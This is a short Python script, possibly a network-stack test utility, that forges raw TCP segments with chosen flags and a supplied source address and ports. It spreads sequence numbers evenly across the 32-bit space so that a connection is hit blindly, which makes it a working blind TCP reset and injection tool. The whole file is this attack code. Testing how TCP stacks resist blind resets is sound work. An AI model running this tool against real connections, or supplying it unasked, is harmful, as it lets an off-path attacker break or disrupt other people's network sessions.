#!/usr/bin/python3
# SPDX-License-Identifier: BSD-2-Clause
"""Send TCP segments as somebody would who knows a connection's addresses and ports and nothing else.

usage: rst.py FLAGS SOURCE SPORT DESTINATION DPORT COUNT

FLAGS is any of F S R A. The numbers are spread over all of their space, with the same gaps each time,
so that a connection is hit by chance only if its window is larger than a gap.
"""
import socket
import struct
import sys

BITS = {"F": 1, "S": 2, "R": 4, "A": 16}


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, sport, destination, dport, seq, flags):
    pseudo = socket.inet_aton(source) + socket.inet_aton(destination) + struct.pack("!BBH", 0, 6, 20)
    header = [sport, dport, seq, seq ^ 0x5A5A5A5A if flags & BITS["A"] else 0, 5 << 12 | flags, 512, 0, 0]
    header[6] = checksum(pseudo + struct.pack("!HHIIHHHH", *header))
    return struct.pack("!HHIIHHHH", *header)


def main():
    letters, source, sport, destination, dport, count = sys.argv[1:]
    flags = sum(BITS[letter] for letter in letters)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)
    sock.bind((source, 0))
    for i in range(int(count)):
        seq = (i * ((1 << 32) // int(count)) + 12345) & 0xFFFFFFFF
        sock.sendto(segment(source, int(sport), destination, int(dport), seq, flags), (destination, 0))


if __name__ == "__main__":
    main()
